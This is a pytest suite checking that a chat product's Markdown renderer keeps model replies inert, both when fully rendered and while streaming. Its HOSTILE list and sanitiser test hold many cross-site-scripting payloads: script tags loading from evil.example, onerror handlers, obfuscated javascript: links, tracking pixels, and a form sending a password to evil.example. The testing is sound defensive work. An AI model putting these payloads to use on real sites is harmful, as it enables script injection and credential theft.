"""Replies rendered as Markdown (chat.markdown): what renders, and that nothing a model writes
ever becomes live HTML — the hostile answers a model can be tricked into writing by a page it
read, checked against what the browser would see."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from chat.markdown import LINK_SCHEMES, TAGS, LiveReply, Preview, render, sanitise
from llm.offline import stream_words


class Elements(HTMLParser):
    """Every element of an HTML fragment with its attributes, as a browser's parser reads it
    (character references in attribute values decoded)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def tags(self) -> list[str]:
        return [tag for tag, _ in self.found]


def assert_inert(html: str) -> None:
    """Nothing in ``html`` can run, load or style anything: only the allowed tags; no event
    handler, style, src or other attribute beyond a link's; links only to http(s) or mailto,
    each opening in a new tab without the opener or referrer."""
    for tag, attrs in Elements(html).found:
        assert tag in TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name in {"href", "target", "rel", "class", "start"}, (name, html)
            assert "javascript" not in value.lower().replace("\t", "").replace("\n", "")
        if tag == "a" and "href" in attrs:
            scheme = attrs["href"].split(":", 1)[0].lower()
            assert scheme in LINK_SCHEMES, (attrs["href"], html)
        if tag == "a":
            assert attrs.get("target") == "_blank"
            assert attrs.get("rel") == "noopener noreferrer nofollow"
        if "class" in attrs and tag == "code":
            assert re.fullmatch(r"language-[\w+#.-]+", attrs["class"]), html
        elif "class" in attrs:
            assert tag in {"th", "td"}, html
            assert attrs["class"] in {"align-left", "align-center", "align-right"}, html


HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "Hi <img src=//evil.example/x onerror=alert(1)>",
    '<img src="https://evil.example/track.png">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav&#9;ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java\u200bscript:alert(1))",
    "[click](\x00javascript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pixel](https://evil.example/track.png)",
    '![x](https://evil.example/a.png "title" onerror=alert(1))',
    '[x](https://ok.example "t" onclick=alert(1))',
    "[x]: javascript:alert(1)\n\n[click][x]",
    "[x]: https://ok.example/ 'title'\n\n![img][x]",
    '<https://ok.example/" onmouseover="alert(1)>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body { display: none }</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<details open ontoggle="alert(1)">',
    "<form action=https://evil.example><input name=password></form>",
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "*<b onclick=alert(1)>bold</b>*",
    "**[<img src=x onerror=alert(1)>](https://ok.example)**",
    "[a](https://ok.example)<script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| centred |",
    '| a |\n|---|\n| <td class="align-left" onclick=alert(1)>x |',
    "```html\n<script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "```x onload=alert(1)\ncode\n```",
    "> quote <img src=x onerror=alert(1)>\n> - [x](javascript:alert(1))",
    "- [x](javascript:alert(1))\n  - <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "[[x](javascript:alert(1))](https://ok.example)",
    "[x](https://ok.example)[y](javascript:alert(1))",
]


@pytest.mark.parametrize("answer", HOSTILE)
def test_nothing_a_model_writes_can_run_load_or_restyle_the_page(answer: str) -> None:
    html = render(answer)
    assert_inert(html)
    assert "<script" not in html.lower() and "<img" not in html.lower()


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_hostile_answer_is_as_inert_while_it_streams(answer: str) -> None:
    live = LiveReply()
    for character in answer:
        preview = live.add(character)
        if preview is not None:
            assert_inert(preview.settled)
            assert_inert(preview.live)
    assert_inert(render(live.text))


def test_the_sanitiser_alone_strips_what_markdown_would_never_make() -> None:
    # The second lock, on its own, as if markdown-it had let raw HTML through.
    html = sanitise(
        '<p onclick="x()">t<script>alert(1)</script><img src="https://evil.example/t.png">'
        '<a href="javascript:alert(1)">j</a><a href="/logout">r</a>'
        '<a href="https://ok.example" style="color:red">ok</a>'
        "<iframe src=https://evil.example></iframe><style>p{}</style>"
        '<svg onload="alert(1)"></svg><code class="evil language-x">c</code></p>'
    )
    assert_inert(html)
    assert "alert" not in html and "p{}" not in html
    assert (
        '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">ok</a>'
        in html
    )
    assert "<code>c</code>" in html


def test_raw_html_in_a_reply_is_shown_as_text() -> None:
    assert render("<script>window.pwned = 1</script>") == (
        "<p>&lt;script&gt;window.pwned = 1&lt;/script&gt;</p>\n"
    )
    assert render("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


def test_an_image_becomes_a_link_that_loads_nothing() -> None:
    assert render("![the chart](https://elsewhere.example/chart.png)") == (
        '<p><a href="https://elsewhere.example/chart.png" target="_blank" '
        'rel="noopener noreferrer nofollow">the chart</a></p>\n'
    )


def test_a_link_elsewhere_opens_in_a_new_tab_without_opener_or_referrer() -> None:
    assert render("See [the docs](https://docs.example/a?b=1&c=2).") == (
        '<p>See <a href="https://docs.example/a?b=1&amp;c=2" target="_blank" '
        'rel="noopener noreferrer nofollow">the docs</a>.</p>\n'
    )
    assert 'href="mailto:anna@example.com"' in render("<mailto:anna@example.com>")


@pytest.mark.parametrize(
    "answer",
    ["[settings](/settings/)", "[out](../logout)", "[top](#main)", "[x](//evil.example/p)"],
)
def test_a_link_into_the_product_or_without_a_scheme_stays_text(answer: str) -> None:
    html = render(answer)
    assert "<a" not in html
    assert html == f"<p>{answer}</p>\n"


def test_lists_emphasis_and_line_breaks_render() -> None:
    assert render("Three ideas:\n\n- **Walk** in the park\n- Read a *book*\n- ~~Nap~~") == (
        "<p>Three ideas:</p>\n<ul>\n<li><strong>Walk</strong> in the park</li>\n"
        "<li>Read a <em>book</em></li>\n<li><s>Nap</s></li>\n</ul>\n"
    )
    assert render("3. three\n4. four") == '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'
    assert render("Roses are red,\nviolets are blue") == (
        "<p>Roses are red,<br>\nviolets are blue</p>\n"
    )


def test_a_table_renders_its_alignment_as_classes_not_styles() -> None:
    assert render("| City | Days | |\n|:-----|-----:|:-:|\n| Turin | 3 | x |") == (
        '<table>\n<thead>\n<tr>\n<th class="align-left">City</th>\n'
        '<th class="align-right">Days</th>\n<td class="align-center"></td>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td class="align-left">Turin</td>\n<td class="align-right">3</td>\n'
        '<td class="align-center">x</td>\n</tr>\n</tbody>\n</table>\n'
    )
    assert render("| a |\n|---|\n| b |") == (
        "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n"
    )


def test_code_renders_escaped_with_its_language() -> None:
    assert render("```python\nif a < b:\n    print('<b>')\n```") == (
        "<pre><code class=\"language-python\">if a &lt; b:\n    print('&lt;b&gt;')\n</code></pre>\n"
    )
    assert render("Run `rm -i <file>`") == "<p>Run <code>rm -i &lt;file&gt;</code></p>\n"


def test_an_unclosed_code_fence_renders_as_code_up_to_the_end() -> None:
    assert render("Here:\n\n```js\nconst a = 1;\n") == (
        '<p>Here:</p>\n<pre><code class="language-js">const a = 1;\n</code></pre>\n'
    )


# --- While a reply streams ----------------------------------------------------------------------

STREAMED = [
    "Sure! Here are three ideas:\n\n1. **Walk** in the park\n2. Read a *book*\n3. Cook `pasta`\n",
    "# Plan\n\nIntro paragraph\nwith a break.\n\n- a\n- b\n\n  still b, now loose\n\n- c\n\n"
    "| x | y |\n|---|---|\n| 1 | 2 |\n\nSetext\n------\n\n> quoted\nlazy line\n\n"
    "```python\nprint(1)\n\nprint(2)\n```\n\n    indented code\n\n    more of it\n\nThe end.",
    "Para one\n\nPara two\n===\n\n***\n\n* x\n\n1) y\n\nlast",
    "Before\n\n```\nunclosed fence\n\nstill code",
]


@pytest.mark.parametrize("text", STREAMED)
def test_every_preview_of_a_streaming_reply_shows_what_a_full_render_would(text: str) -> None:
    live = LiveReply()
    settled = ""
    previews = 0
    for chunk in stream_words(text):
        preview = live.add(chunk)
        if preview is not None:
            previews += 1
            settled += preview.settled
            assert settled + preview.live == render(live.text), live.text
    assert previews > 1
    assert live.text == text


def test_the_first_piece_of_a_reply_renders_at_once_an_open_fence_as_code() -> None:
    preview = LiveReply().add("- one\n- two\n\n```python\nprint(1)\n")
    assert preview is not None
    assert preview.settled == "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    assert preview.live == '<pre><code class="language-python">print(1)\n</code></pre>\n'


def test_windows_newlines_stream_like_unix_ones() -> None:
    live = LiveReply()
    preview = live.add("- a\r\n- b\r\n\r\nText")
    assert preview == Preview(settled=render("- a\n- b"), live=render("Text"))


def count_renders(text: str) -> int:
    live = LiveReply()
    return sum(live.add(chunk) is not None for chunk in stream_words(text))


def test_a_long_reply_renders_a_bounded_number_of_times() -> None:
    # One long block (a 150-item list, ~10,000 characters in ~2,000 chunks) is re-read about
    # 32 × ln(growth) times, not once per chunk; many short blocks once every few words.
    one_list = "".join(
        f"- item {i} with **bold** and `code`, a few more words\n" for i in range(150)
    )
    assert len(list(stream_words(one_list))) > 1_500
    assert count_renders(one_list) < 250
    many_blocks = "Some *text* here, a sentence or two long.\n\n" * 200
    assert count_renders(many_blocks) <= len(many_blocks) // 24 + 1


def test_an_empty_header_cell_is_a_plain_cell_so_no_empty_header_is_announced() -> None:
    html = render("| | Budget |\n|---|---:|\n| Train | 12 € |")
    assert "<td></td>" in html and '<th class="align-right">Budget</th>' in html
    assert "<th></th>" not in html
    assert render("| A | B |\n|---|---|\n| 1 | 2 |").count("<th>") == 2  # words: headers still
